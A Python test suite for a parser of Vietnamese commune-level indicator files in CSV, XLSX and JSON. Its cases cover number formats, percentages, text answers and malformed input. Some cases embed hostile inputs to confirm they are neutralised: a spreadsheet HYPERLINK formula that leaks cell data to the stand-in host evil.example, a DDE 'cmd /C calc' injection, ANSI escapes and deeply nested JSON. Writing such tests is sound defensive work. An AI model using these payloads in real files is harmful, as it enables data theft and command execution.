error("locale_unknown", as_csv(commune()), args=("--locale", "xx-klingon"), files=(), says="locale")
error("underscore_digits", as_csv(commune({(1, "NL1"): "0_5"})), row=3, column="NL1")
error(
    "underscore_thousands",
    as_csv(commune({(1, "population"): "1_996"})),
    row=3,
    column="population",
)
error("space_grouped", as_csv(commune({(1, "population"): "1 996"})), row=3, column="population")
error(
    "nbsp_grouped", as_csv(commune({(1, "population"): "1\u00a0996"})), row=3, column="population"
)
error("double_separators", as_csv(commune({(1, "NL1"): "1..5"})), row=3, column="NL1")
error("two_decimal_points", as_csv(commune({(1, "NL1"): "1.2.3"})), row=3, column="NL1")
ok("scientific", as_csv(commune({(1, "population"): "2e3"})), {("05802", "population"): 2000})
ok("scientific_fraction", as_csv(commune({(1, "HT1"): "8.26E1"})), {("05802", "HT1"): 82.6})
ok("leading_plus", as_csv(commune({(1, "HT1"): "+83"})), {("05802", "HT1"): 83})
ok("padded_spaces", as_csv(commune({(1, "HT1"): "   83  "})), {("05802", "HT1"): 83})
ok("padded_nbsp", as_csv(commune({(1, "HT1"): "\u00a083\u00a0"})), {("05802", "HT1"): 83})
ok("leading_zeros", as_csv(commune({(1, "HT1"): "083"})), {("05802", "HT1"): 83})
ok(
    "scientific_decimal_comma",
    as_csv(commune({(0, "NL1"): "3,6E-05", (1, "NL1"): "2,5"}), delimiter=";"),
    {("05801", "NL1"): 3.6e-05, ("05802", "NL1"): 2.5},
)
ok(
    "scientific_decimal_comma_locale_vi",
    as_csv(commune({(0, "NL1"): "3,6E-05"}), delimiter=";"),
    {("05801", "NL1"): 3.6e-05},
    args=("--locale", "vi"),
)
ok("leading_dot", as_csv(commune({(1, "NL1"): ".5"})), {("05802", "NL1"): 0.5})
ok(
    "missing_markers",
    as_csv(
        commune(
            {(0, "HT1"): "", (1, "HT1"): "NA", (2, "HT1"): "-", (3, "HT1"): "..", (0, "KT5"): "n/a"}
        )
    ),
    {("05801", "HT1"): NAN, ("05802", "HT1"): NAN, ("05803", "HT1"): NAN, ("05801", "KT5"): NAN},
)
ok(
    "all_missing_row",
    as_csv(commune({(2, c): "" for c in COMMUNE_HEADER[5:]})),
    {("05803", "HT1"): NAN, ("05801", "HT1"): 96},
)
ok(
    "empty_indicator_column",
    as_csv(commune({(i, "KT5"): "" for i in range(4)})),
    {("05803", "KT5"): NAN, ("05801", "HT1"): 96},
)
for _k, _text in enumerate(("inf", "-Infinity", "NaN", "#NUM!")):
    error(f"non_finite_text_{_k}", as_csv(commune({(1, "HT1"): _text})), row=3, column="HT1")
for _k, _text in enumerate(("#DIV/0!", "#N/A", "#VALUE!", "#REF!")):
    error(f"excel_error_text_{_k}", as_csv(commune({(2, "HT2"): _text})), row=4, column="HT2")
error("formula_text_in_number", as_csv(commune({(1, "HT1"): "=SUM(A1:A3)"})), row=3, column="HT1")
error("accounting_negative", as_csv(commune({(1, "NL1"): "(5)"})), row=3, column="NL1")
error("trailing_minus", as_csv(commune({(1, "NL1"): "5-"})), row=3, column="NL1")
error("hex_number", as_csv(commune({(1, "NL1"): "0x1F"})), row=3, column="NL1")
error(
    "currency_suffix",
    as_csv(commune({(1, "population"): "1996 người"})),
    row=3,
    column="population",
)
error("words_in_number", as_csv(commune({(1, "HT1"): "khoảng 80"})), row=3, column="HT1")
error(
    "huge_digit_string",
    as_csv(commune({(1, "population"): "1" + "0" * 400})),
    row=3,
    column="population",
)
error(
    "overflowing_exponent",
    as_csv(commune({(1, "NL1"): "1e999"})),
    row=3,
    column="NL1",
)

# percentages ---------------------------------------------------------------------------------
ok("percent_in_percent_column", as_csv(commune({(1, "HT1"): "75%"})), {("05802", "HT1"): 75})
ok("percent_with_space", as_csv(commune({(1, "HT1"): "75 %"})), {("05802", "HT1"): 75})
ok(
    "percent_with_decimal_comma",
    as_csv(commune({(1, "HT1"): "75,5%"}), delimiter=";"),
    {("05802", "HT1"): 75.5},
)
ok(
    "small_percent_in_percent_column",
    as_csv(commune({(1, "HT1"): "0.5%"})),
    {("05802", "HT1"): 0.5},
)
ok(
    "every_cell_percent_sign",
    as_csv(commune({(i, "HT2"): f"{v}%" for i, v in enumerate((78, 100, 100, 73))})),
    {("05801", "HT2"): 78, ("05804", "HT2"): 73},
)
error(
    "percent_in_count_column",
    as_csv(commune({(1, "NT4"): "75%"})),
    row=3,
    column="NT4",
    says="percentage.*unit is 'meetings'",  # NT4 counts meetings (framework-commune.toml)
)
error(
    "percent_in_auxiliary_column",
    as_csv(commune({(1, "population"): "75%"})),
    row=3,
    column="population",
)
error("percent_in_yes_no_column", as_csv(commune({(1, "NT6"): "100%"})), row=3, column="NT6")
error("double_percent", as_csv(commune({(1, "HT1"): "75%%"})), row=3, column="HT1")
error("percent_sign_alone", as_csv(commune({(1, "HT1"): "%"})), row=3, column="HT1")
error("leading_percent", as_csv(commune({(1, "HT1"): "%75"})), row=3, column="HT1")
error(
    "fractions_in_percent_column",
    as_csv(commune({(i, "HT1"): v for i, v in enumerate(("0.96", "0.83", "0.91", "0.84"))})),
    column="HT1",
    says="fraction|0.?1",
)
error(
    "fractions_in_percent_column_decimal_comma",
    as_csv(
        commune({(i, "XH1"): v for i, v in enumerate(("0,81", "0,75", "0,86", "0,88"))}),
        delimiter=";",
    ),
    column="XH1",
)

# a fraction column, bounds and whole numbers (a framework that declares them) -----------------
FRACTION = {"HT1": {"unit": "fraction", "bounds": [0, 1]}}
COUNT = {"NT4": {"bounds": [0, 50], "integer": True}}
error(
    "fraction_column_holds_75",
    with_framework(as_csv(commune({(1, "HT1"): "75"})), FRACTION),
    framework=FRAMEWORK,
    row=3,
    column="HT1",
    says="percent|0.75|0–1|0-1",
)
ok(
    "fraction_column_holds_fractions",
    with_framework(
        as_csv(commune({(i, "HT1"): v for i, v in enumerate(("0.96", "0.75", "0.91", "1"))})),
        FRACTION,
    ),
    {("05802", "HT1"): 0.75, ("05804", "HT1"): 1},
    framework=FRAMEWORK,
)
ok(
    "fraction_column_percent_sign",
    with_framework(
        as_csv(commune({(i, "HT1"): v for i, v in enumerate(("0.96", "75%", "0.91", "0.5"))})),
        FRACTION,
    ),
    {("05802", "HT1"): 0.75, ("05801", "HT1"): 0.96},
    framework=FRAMEWORK,
)
error(
    "fraction_column_negative",
    with_framework(
        as_csv(commune({(i, "HT1"): v for i, v in enumerate(("0.9", "-0.1", "0.5", "1"))})),
        FRACTION,
    ),
    framework=FRAMEWORK,
    row=3,
    column="HT1",
)
error(
    "fraction_column_150_percent",
    with_framework(
        as_csv(commune({(i, "HT1"): v for i, v in enumerate(("0.9", "150%", "0.5", "1"))})),
        FRACTION,
    ),
    framework=FRAMEWORK,
    row=3,
    column="HT1",
    says=r"150 ?%|above",
)
error(
    "declared_bounds_negative_count",
    with_framework(as_csv(commune({(1, "NT4"): "-3"})), COUNT),
    framework=FRAMEWORK,
    row=3,
    column="NT4",
)
error(
    "declared_integer_fractional_count",
    with_framework(as_csv(commune({(1, "NT4"): "2.5"})), COUNT),
    framework=FRAMEWORK,
    row=3,
    column="NT4",
)
error(
    "declared_bounds_count_too_high",
    with_framework(as_csv(commune({(1, "NT4"): "5000"})), COUNT),
    framework=FRAMEWORK,
    row=3,
    column="NT4",
)
ok(
    "declared_bounds_whole_count_as_decimal",
    with_framework(as_csv(commune({(1, "NT4"): "5.0"})), COUNT),
    {("05802", "NT4"): 5},
    framework=FRAMEWORK,
)
error(
    "negative_count_backan",
    as_csv(commune({(1, "NT4"): "-3"})),
    row=3,
    column="NT4",
)
error(
    "percent_over_100_backan",
    as_csv(commune({(1, "HT1"): "150"})),
    row=3,
    column="HT1",
)

# text answers --------------------------------------------------------------------------------
ok(
    "answer_co",
    as_csv(commune({(1, "NT6"): "có", (2, "NT6"): "không"})),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
)
ok(
    "answer_capitalised",
    as_csv(commune({(1, "NT6"): "Có", (2, "NT6"): "KHÔNG"})),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
)
ok(
    "answer_padded_english",
    as_csv(commune({(1, "NT6"): "  Yes ", (2, "NT6"): "no"})),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
)
ok(
    "answer_nfd",
    as_csv(
        commune(
            {
                (1, "NT6"): unicodedata.normalize("NFD", "Có"),
                (2, "NT6"): unicodedata.normalize("NFD", "không"),
            }
        )
    ),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
)
ok(
    "answer_cp1258_combining",
    as_csv(commune({(1, "NT6"): "có", (2, "NT6"): "không"}), encoding="cp1258"),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
    args=("--encoding", "cp1258"),
)
error(
    "answer_unknown", as_csv(commune({(1, "NT6"): "maybe"})), row=3, column="NT6", says="có|answer"
)
error("answer_without_diacritics", as_csv(commune({(1, "NT6"): "khong"})), row=3, column="NT6")
error("answer_true_text", as_csv(commune({(1, "NT6"): "TRUE"})), row=3, column="NT6")
error("answer_in_percent_column", as_csv(commune({(1, "HT1"): "có"})), row=3, column="HT1")
error("answer_number_out_of_set", as_csv(commune({(1, "NT6"): "7"})), row=3, column="NT6")
_DIST = district_rows()
ok(
    "district_answer_mot_phan",
    as_csv(edit(_DIST, {(0, "NT5"): "Một phần", (1, "TC2"): "partly", (2, "NT3"): "Có"})),
    {("058", "NT5"): 0.5, (_DIST[2][0], "TC2"): 0.5, (_DIST[3][0], "NT3"): 1},
    level="district",
)
error(
    "district_answer_typo",
    as_csv(edit(_DIST, {(1, "NT5"): "mot phan"})),
    level="district",
    row=3,
    column="NT5",
)

# ============================================================================================
# unit codes, names, periods
# ============================================================================================
error("blank_unit_code", as_csv(commune({(2, "unit"): ""})), row=4, column="unit")
error("whitespace_unit_code", as_csv(commune({(2, "unit"): "   "})), row=4, column="unit")
error("duplicate_unit", as_csv(commune({(3, "unit"): "05801"})), row=5, column="unit", says="05801")
error("duplicate_unit_padded", as_csv(commune({(3, "unit"): " 05801 "})), row=5, column="unit")
error(
    "duplicate_unit_nfd_name_code",
    as_csv(commune({(0, "unit"): "Xã-Đồng", (3, "unit"): unicodedata.normalize("NFD", "Xã-Đồng")})),
    row=5,
    column="unit",
)
ok(
    "same_unit_two_periods",
    as_csv(commune({(3, "unit"): "05801", (3, "period"): "2023"})),
    {("05801", "HT1"): 96},
    args=("--period", "2024"),
)
ok(
    "leading_zero_codes_kept",
    as_csv(commune()),
    {("05801", "KT4"): 82},
    names={"05801": NAMES["05801"]},
)
INJECT = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
ok(
    "formula_injection_name_hyperlink",
    as_csv(commune({(0, "name"): INJECT, (1, "name"): "=1+2", (2, "name"): "@SUM(A1:A9)"})),
    {("05801", "HT1"): 96},
    names={"05801": INJECT, "05803": "@SUM(A1:A9)"},
    check_outputs=True,
)
ok(
    "formula_injection_unit_plus",
    as_csv(
        commune(
            {(0, "unit"): "+1", (1, "unit"): "-2+3", (2, "unit"): "@SUM(1+1)*cmd|' /C calc'!A0"}
        )
    ),
    {("+1", "HT1"): 96, ("-2+3", "HT1"): 83},
    check_outputs=True,
)
ok(
    "formula_injection_unit_tab_cr",
    as_csv(commune({(0, "unit"): "\t=1+1", (1, "name"): "\r=2+2"})),
    {("=1+1", "HT1"): 96},
    check_outputs=True,
)
error(
    "formula_injection_unit_in_error",
    as_csv(commune({(0, "unit"): INJECT, (3, "unit"): INJECT})),
    row=5,
    column="unit",
    says="HYPERLINK",
)
error(
    "rich_markup_in_unit_code",
    as_csv(commune({(0, "unit"): "[red]X[/red]", (3, "unit"): "[red]X[/red]"})),
    row=5,
    says=re.escape("[red]X[/red]"),
)
error(
    "ansi_escape_in_unit_code",
    as_csv(commune({(0, "unit"): "\x1b[2J\x1b[31mX", (3, "unit"): "\x1b[2J\x1b[31mX"})),
    row=5,
    column="unit",
)
error(
    "ansi_escape_in_header",
    as_csv(commune(extra={"\x1b[2JHT9": ["1", "2", "3", "4"]})),
    row=1,
)
ok("control_chars_in_name", as_csv(commune({(0, "name"): "Xã\x07\x08 A"})), {("05801", "HT1"): 96})
error("period_blank", as_csv(commune({(2, "period"): ""})), row=4, column="period")
error("period_text", as_csv(commune({(2, "period"): "năm 2024"})), row=4, column="period")
error("period_fraction", as_csv(commune({(2, "period"): "2024.5"})), row=4, column="period")
ok("period_written_as_decimal", as_csv(commune({(2, "period"): "2024.0"})), {("05803", "HT1"): 91})
error("period_not_in_file", as_csv(commune()), args=("--period", "2023"), says="2023")
error(
    "period_percent",
    as_csv(commune({(2, "period"): "2024%"})),
    row=4,
    column="period",
)

# ============================================================================================
# several files (assembled into one data set)
# ============================================================================================
_A = commune(n=2)
_B = [commune()[0], *commune()[3:]]
ok(
    "two_files_disjoint_units",
    files(as_csv(_A, "a.csv"), as_csv(_B, "b.csv")),
    {("05801", "HT1"): 96, ("05804", "HT1"): 84},
)
ok(
    "two_files_split_columns",
    files(
        as_csv(commune(drop=["HT1", "HT2", "NL1", "NL2"]), "phong_vh.csv"),
        as_csv([[*r[:2], r[4], *r[8:12]] for r in commune()], "so_tttt.csv"),
    ),
    {("05801", "HT1"): 96, ("05804", "NL2"): 56, ("05802", "CQ1"): 55},
)
ok(
    "two_files_second_without_period_column",
    files(
        as_csv(commune(drop=["HT1", "HT2", "NL1", "NL2"]), "phong_vh.csv"),
        as_csv([[*r[:2], *r[8:12]] for r in commune()], "so_tttt.csv"),
    ),
    {("05801", "HT1"): 96, ("05804", "NL2"): 56, ("05802", "CQ1"): 55},
)
ok(
    "two_files_second_without_name_column",
    files(
        as_csv(commune(drop=["HT1", "HT2", "NL1", "NL2"]), "phong_vh.csv"),
        as_csv([[r[0], r[4], *r[8:12]] for r in commune()], "so_tttt.csv"),
    ),
    {("05801", "HT1"): 96, ("05804", "NL2"): 56, ("05802", "CQ1"): 55},
)
error(
    "two_files_conflict",
    files(as_csv(commune(), "a.csv"), as_csv(commune({(1, "HT1"): "84"}), "b.csv")),
    files=("a.csv", "b.csv"),
    says="conflict|83",
)
ok(
    "two_files_agree",
    files(as_csv(commune(), "a.csv"), as_csv(commune({(1, "HT1"): "83.0"}), "b.csv")),
    {("05802", "HT1"): 83},
)
ok(
    "same_file_twice",
    lambda folder: [*as_csv(commune(), "a.csv")(folder)] * 2,
    {("05802", "HT1"): 83},
)
error(
    "two_files_second_bad",
    files(as_csv(_A, "good.csv"), as_csv(edit(_B, {(0, "HT1"): "x"}), "bad.csv")),
    files=("bad.csv",),
    row=2,
    column="HT1",
)
error(
    "two_files_evidence_not_shared",
    files(
        as_csv(edit(_A, {(0, "NL1"): "0,5"}), "a.csv", delimiter=";"),
        as_csv(edit(_B, {(1, "population"): "3.024"}), "b.csv"),
    ),
    files=("b.csv",),
    row=3,
    column="population",
)
ok(
    "folder_with_lock_and_readme",
    folder_of(
        as_csv(_A, "a.csv"),
        as_csv(_B, "b.csv"),
        raw(b"\x00garbage", "~$b.xlsx"),
        raw("# đọc tôi", "README.md"),
        raw("unit\n", ".hidden.csv"),
    ),
    {("05801", "HT1"): 96, ("05804", "HT1"): 84},
)
error("folder_without_data", folder_of(raw("hello", "notes.md")), files=("submissions",))
error(
    "file_name_with_spaces_and_accents",
    as_csv(commune({(1, "HT1"): "x"}), "Báo cáo xã (bản 2) [final].csv"),
    row=3,
    column="HT1",
)
error(
    "file_name_with_quote",
    as_csv(commune({(1, "HT1"): "x"}), 'it\'s "final".csv'),
    row=3,
    column="HT1",
)

# ============================================================================================
# workbooks
# ============================================================================================
T = typed(commune())
ok(
    "xlsx_baseline",
    as_xlsx(Sheet("Data", T)),
    {("05801", "HT1"): 96, ("05804", "population"): 3024},
    names=NAMES,
)
ok(
    "xlsx_typed_decimals",
    as_xlsx(Sheet("Data", typed(commune({(0, "HT1"): "96.5", (1, "NL1"): "2.59"})))),
    {("05801", "HT1"): 96.5, ("05802", "NL1"): 2.59},
)
ok(
    "xlsx_typed_decimal_no_ambiguity",
    as_xlsx(Sheet("Data", edit(T, {(1, "NL1"): 1.234}))),
    {("05802", "NL1"): 1.234},
)
ok(
    "xlsx_text_decimal_comma",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): "82,6"}))),
    {("05802", "HT1"): 82.6},
)
error(
    "xlsx_text_ambiguous",
    as_xlsx(Sheet("Dữ liệu", edit(T, {(1, "population"): "1.996"}))),
    sheet="Dữ liệu",
    row=3,
    column="population",
)
ok(
    "xlsx_hidden_sheet_ignored",
    as_xlsx(
        Sheet("Data", T),
        Sheet("Nháp", edit(T, {(0, "HT1"): "rác", (1, "unit"): ""}), state="hidden"),
    ),
    {("05801", "HT1"): 96},
)
ok(
    "xlsx_very_hidden_sheet_ignored",
    as_xlsx(Sheet("Data", T), Sheet("Secret", edit(T, {(0, "HT1"): "=1/0"}), state="veryHidden")),
    {("05801", "HT1"): 96},
)
ok(
    "xlsx_hidden_sheet_named",
    as_xlsx(
        Sheet("Data", edit(T, {(0, "HT1"): "x"})),
        Sheet("Final", edit(T, {(0, "HT1"): 97}), state="hidden"),
    ),
    {("05801", "HT1"): 97},
    args=("--sheet", "Final"),
)
error(
    "xlsx_sheet_not_found",
    as_xlsx(Sheet("Data", T)),
    args=("--sheet", "Không có"),
    says="Không có",
)
ok(
    "xlsx_percent_format_in_percent_column",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): 0.83}), formats={(1, "HT1"): "0%"})),
    {("05802", "HT1"): 83, ("05801", "HT1"): 96},
)
ok(
    "xlsx_percent_format_whole_column",
    as_xlsx(
        Sheet(
            "Data",
            edit(T, {(i, "HT2"): v for i, v in enumerate((0.78, 1, 1, 0.735))}),
            formats={(i, "HT2"): "0.00%" for i in range(4)},
        )
    ),
    {("05801", "HT2"): 78, ("05804", "HT2"): 73.5},
)
ok(
    "xlsx_percent_custom_format",
    as_xlsx(
        Sheet(
            "Data", edit(T, {(1, "HT1"): 0.826}), formats={(1, "HT1"): '[Blue]0.0" "%;[Red]-0.0%'}
        )
    ),
    {("05802", "HT1"): 82.6},
)
ok(
    "xlsx_percent_literal_in_quotes_is_not_percent",
    as_xlsx(Sheet("Data", edit(T, {(1, "NT4"): 5}), formats={(1, "NT4"): '0" %"'})),
    {("05802", "NT4"): 5},
)
error(
    "xlsx_percent_format_in_count_column",
    as_xlsx(Sheet("Data", edit(T, {(1, "NT4"): 0.05}), formats={(1, "NT4"): "0%"})),
    sheet="Data",
    row=3,
    column="NT4",
    says="%|percent",
)
ok(
    "xlsx_percent_format_sheet_name_needs_escaping",
    as_xlsx(
        Sheet("Ghi chú", [["Hướng dẫn"]]),
        Sheet('Xã A&B <2024> "x"', edit(T, {(1, "HT1"): 0.83}), formats={(1, "HT1"): "0%"}),
    ),
    {("05802", "HT1"): 83},
)
ok(
    "xlsx_percent_format_in_second_data_sheet",
    as_xlsx(
        Sheet("Bắc Kạn", typed(commune(n=2))),
        Sheet(
            "Ba Bể",
            edit(typed([commune()[0], *commune()[3:]]), {(1, "HT1"): 0.845}),
            formats={(1, "HT1"): "0.0%"},
        ),
    ),
    {("05801", "HT1"): 96, ("05804", "HT1"): 84.5},
)
ok(
    "xlsx_percent_text",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): "83%"}))),
    {("05802", "HT1"): 83},
)
error(
    "xlsx_formula_without_value",
    as_xlsx(Sheet("Tổng hợp", edit(T, {(1, "HT1"): "=AVERAGE(I2,I4)"}))),
    sheet="Tổng hợp",
    row=3,
    says="formula",
)
error(
    "xlsx_formula_without_value_in_name",
    as_xlsx(Sheet("Data", edit(T, {(1, "name"): '=CONCAT("Xã ","A")'}))),
    sheet="Data",
    row=3,
    says="formula",
)
error(
    "xlsx_formula_in_hidden_sheet_named",
    as_xlsx(Sheet("Data", T), Sheet("Calc", edit(T, {(0, "HT1"): "=1+1"}), state="hidden")),
    args=("--sheet", "Calc"),
    sheet="Calc",
    row=2,
)
error(
    "xlsx_date_in_number",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): date(2024, 3, 17)}))),
    sheet="Data",
    row=3,
    column="HT1",
    says="date",
)
error(
    "xlsx_datetime_in_number",
    as_xlsx(Sheet("Data", edit(T, {(1, "population"): datetime(2024, 3, 17, 8, 30)}))),
    sheet="Data",
    row=3,
    column="population",
)
error(
    "xlsx_time_in_number",
    as_xlsx(Sheet("Data", edit(T, {(1, "NL1"): time(8, 30)}))),
    sheet="Data",
    row=3,
    column="NL1",
)
error(
    "xlsx_bool_in_count",
    as_xlsx(Sheet("Data", edit(T, {(1, "NT4"): True}))),
    sheet="Data",
    row=3,
    column="NT4",
)
error(
    "xlsx_bool_in_percent",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): False}))),
    sheet="Data",
    row=3,
    column="HT1",
)
error(
    "xlsx_error_cell",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT2"): "#DIV/0!"}))),
    sheet="Data",
    row=3,
    column="HT2",
)
ok(
    "xlsx_merged_title_rows",
    as_xlsx(
        Sheet("Data", titled(T, ["BÁO CÁO CHỈ SỐ CĐS CẤP XÃ"], [], ["Kỳ: 2024"]), merges=["A1:R1"])
    ),
    {("05802", "HT1"): 83, ("05804", "KT5"): 30},
)
error(
    "xlsx_merged_title_then_error_row_number",
    as_xlsx(Sheet("Data", titled(edit(T, {(2, "HT1"): "x"}), ["BÁO CÁO"], []), merges=["A1:R1"])),
    sheet="Data",
    row=6,  # title 1, blank 2, header 3, units on 4-7: the third unit on row 6
    column="HT1",
)
ok(
    "xlsx_merged_cells_in_data",
    as_xlsx(Sheet("Data", T, merges=["C2:C5"])),
    {("05804", "HT1"): 84},
)
ok(
    "xlsx_empty_sheet_and_data",
    as_xlsx(Sheet("Trống", []), Sheet("Data", T)),
    {("05801", "HT1"): 96},
)
error("xlsx_only_empty_sheet", as_xlsx(Sheet("Trống", [])))
error("xlsx_only_header", as_xlsx(Sheet("Data", typed(commune(n=0)))))
ok(
    "xlsx_two_district_sheets",
    as_xlsx(
        Sheet("Bắc Kạn", typed(commune(n=2))), Sheet("Ba Bể", typed([commune()[0], *commune()[3:]]))
    ),
    {("05801", "HT1"): 96, ("05804", "HT1"): 84},
)
error(
    "xlsx_two_sheets_conflict",
    as_xlsx(Sheet("Đợt 1", T), Sheet("Đợt 2", edit(T, {(0, "HT1"): 50}))),
    says="Đợt 1|Đợt 2",
)
ok(
    "xlsx_notes_sheet_without_unit_column",
    as_xlsx(
        Sheet("Hướng dẫn", [["Điền số liệu vào sheet Data"], ["HT1: tỷ lệ %"]]), Sheet("Data", T)
    ),
    {("05801", "HT1"): 96},
)
error(
    "xlsx_error_in_second_sheet",
    as_xlsx(
        Sheet("Bắc Kạn", typed(commune(n=2))),
        Sheet("Chợ Mới", edit(typed([commune()[0], *commune()[3:]]), {(0, "HT1"): "x"})),
    ),
    sheet="Chợ Mới",
    row=2,
    column="HT1",
)
ok(
    "xlsx_offset_table",
    as_xlsx(Sheet("Data", T, origin=(5, 3))),
    {("05801", "HT1"): 96, ("05804", "KT5"): 30},
)
error(
    "xlsx_offset_table_error",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): "x"}), origin=(5, 3))),
    sheet="Data",
    row=7,
    column="HT1",
)
ok(
    "xlsx_numeric_unit_codes",
    as_xlsx(Sheet("Data", typed(commune(), text=("name", "level", "parent")))),
    {("5801", "HT1"): 96},
)
ok(
    "xlsx_vi_headers",
    as_xlsx(Sheet("Data", typed(commune(rename=VI)))),
    {("05801", "HT1"): 96},
    names=NAMES,
)
ok(
    "xlsx_formula_injection_as_text",
    as_xlsx(
        Sheet(
            "Data",
            edit(T, {(0, "name"): INJECT, (1, "unit"): "=2+2"}),
            text_cells=[(0, "name"), (1, "unit")],
        )
    ),
    {("05801", "HT1"): 96, ("=2+2", "HT1"): 83},
    names={"05801": INJECT},
    check_outputs=True,
)
ok("xlsm_suffix", as_xlsx(Sheet("Data", T), name="data.xlsm"), {("05801", "HT1"): 96})
ok(
    "xlsx_upper_case_suffix",
    as_xlsx(Sheet("Data", T), name="DATA.XLSX"),
    {("05801", "HT1"): 96},
)
ok(
    "xlsx_date_provenance_column",
    as_xlsx(Sheet("Data", typed(commune(extra={"date": [date(2024, 3, 17)] * 4})))),
    {("05801", "HT1"): 96},
)
ok(
    "xlsx_whitespace_cells",
    as_xlsx(Sheet("Data", edit(T, {(1, "HT1"): "  ", (2, "name"): "  Xã Dương Quang  "}))),
    {("05802", "HT1"): NAN},
    names={"05803": "Xã Dương Quang"},
)
ok(
    "xlsx_newline_in_name",
    as_xlsx(Sheet("Data", edit(T, {(1, "name"): "Phường\nBắc Kạn 02"}))),
    {("05802", "HT1"): 83},
    names={"05802": "Phường\nBắc Kạn 02"},
)
ok(
    "xlsx_blank_rows_between",
    as_xlsx(Sheet("Data", [T[0], T[1], [], [], T[2], T[3], [], T[4]])),
    {("05804", "HT1"): 84},
)
error(
    "xlsx_blank_rows_then_error_row_number",
    as_xlsx(Sheet("Data", [T[0], T[1], [], [], *edit(T, {(1, "HT1"): "x"})[2:]])),
    sheet="Data",
    row=5,
    column="HT1",
)
error(
    "xlsx_huge_float_in_text",
    as_xlsx(Sheet("Data", edit(T, {(1, "NL1"): "1e999"}))),
    sheet="Data",
    row=3,
    column="NL1",
)
error(
    "xlsx_answer_unknown",
    as_xlsx(Sheet("Data", edit(T, {(1, "NT6"): "chưa rõ"}))),
    sheet="Data",
    row=3,
    column="NT6",
)
ok(
    "xlsx_answer_text",
    as_xlsx(Sheet("Data", edit(T, {(1, "NT6"): "Có", (2, "NT6"): "không"}))),
    {("05802", "NT6"): 1, ("05803", "NT6"): 0},
)

# ============================================================================================
# JSON
# ============================================================================================
R = records(commune())
ok(
    "json_records_list",
    as_json(R),
    {("05801", "HT1"): 96, ("05804", "population"): 3024},
    names=NAMES,
)
ok("json_records_object", as_json({"records": R}), {("05801", "HT1"): 96})
ok("json_data_object", as_json({"data": R}), {("05801", "HT1"): 96})
ok("json_bom", raw(codecs.BOM_UTF8 + json.dumps(R).encode(), "data.json"), {("05801", "HT1"): 96})
ok(
    "json_vi_keys",
    as_json(records(commune(rename=VI))),
    {("05801", "HT1"): 96},
    names=NAMES,
)
ok(
    "json_key_missing_in_one_record",
    as_json([R[0], {k: v for k, v in R[1].items() if k != "HT1"}, *R[2:]]),
    {("05802", "HT1"): NAN, ("05801", "HT1"): 96},
)
ok("json_null_value", as_json([R[0], {**R[1], "HT1": None}, *R[2:]]), {("05802", "HT1"): NAN})
ok(
    "json_numbers_as_strings",
    as_json([{**r, "HT1": str(r["HT1"]), "NL1": f"{r['NL1']},5"} for r in R]),
    {("05801", "HT1"): 96, ("05801", "NL1"): 3.5},
)
error(
    "json_ambiguous_string",
    as_json([R[0], {**R[1], "population": "1.996"}, *R[2:]]),
    row=2,
    column="population",
)
ok("json_percent_string", as_json([R[0], {**R[1], "HT1": "83%"}, *R[2:]]), {("05802", "HT1"): 83})
error(
    "json_percent_string_in_count",
    as_json([R[0], {**R[1], "NT4": "5%"}, *R[2:]]),
    row=2,
    column="NT4",
)
ok(
    "json_unicode_escapes",
    raw(json.dumps(R, ensure_ascii=True), "data.json"),
    {("05801", "HT1"): 96},
    names=NAMES,
)
error(
    "json_duplicate_keys",
    raw('[{"unit": "05801", "HT1": 96, "HT1": 97}]', "data.json"),
    says="duplicate",
)
error(
    "json_duplicate_keys_nfc_nfd",
    raw(
        json.dumps(records(commune(rename=VI))).replace(
            '"T\\u00ean": "Ph', '"Te\\u0302n": "Xã khác", "T\\u00ean": "Ph', 1
        ),
        "data.json",
    ),
    says="duplicate",
)
error("json_nan", raw(json.dumps(R).replace('"HT1": 96', '"HT1": NaN'), "data.json"), says="NaN")
error("json_infinity", raw(json.dumps(R).replace('"HT1": 96', '"HT1": Infinity'), "data.json"))
error(
    "json_negative_infinity",
    raw(json.dumps(R).replace('"HT1": 96', '"HT1": -Infinity'), "data.json"),
)
error(
    "json_int_5000_digits",
    raw(json.dumps(R).replace('"population": 5774', '"population": 1' + "0" * 5000), "data.json"),
)
error(
    "json_int_400_digits",
    raw(json.dumps(R).replace('"population": 5774', '"population": 1' + "0" * 400), "data.json"),
    row=1,
    column="population",
)
error(
    "json_float_overflow",
    raw(json.dumps(R).replace('"NL1": 3', '"NL1": 1e999'), "data.json"),
    row=1,
    column="NL1",
)
error(
    "json_deep_nesting_100000_lists",
    raw("[" * 100_000 + "]" * 100_000, "data.json"),
    subprocess=True,
)
error(
    "json_deep_nesting_100000_in_record",
    raw(
        '[{"unit": "05801", "HT1": ' + '{"a": ' * 100_000 + "1" + "}" * 100_000 + "}]", "data.json"
    ),
    subprocess=True,
)
error(
    "json_nested_object_in_value",
    as_json([R[0], {**R[1], "HT1": {"value": 83, "note": "ước tính"}}, *R[2:]]),
    row=2,
    column="HT1",
)
error(
    "json_nested_list_in_value",
    as_json([R[0], {**R[1], "HT1": [83, 84]}, *R[2:]]),
    row=2,
    column="HT1",
)
error("json_bool_in_count", as_json([R[0], {**R[1], "NT4": True}, *R[2:]]), row=2, column="NT4")
error("json_scalar_document", raw("42", "data.json"))
error("json_string_document", raw('"unit,HT1"', "data.json"))
error("json_null_document", raw("null", "data.json"))
error("json_empty_list", raw("[]", "data.json"))
error("json_empty_records", raw('{"records": []}', "data.json"))
error("json_list_of_lists", as_json([list(commune()[0]), *[list(r) for r in commune()[1:]]]))
error("json_list_of_empty_objects", raw("[{}, {}]", "data.json"))
error("json_column_oriented", as_json({c: [r[c] for r in R] for c in R[0]}))
error("json_object_without_records", as_json({"units": R}))
error("json_trailing_comma", raw(json.dumps(R, indent=1)[:-2] + ",\n]", "data.json"), says="JSON")
error("json_truncated", raw(json.dumps(R, indent=1)[:300], "data.json"), says="JSON")
error("json_comments", raw("// dữ liệu\n" + json.dumps(R), "data.json"), row=1)
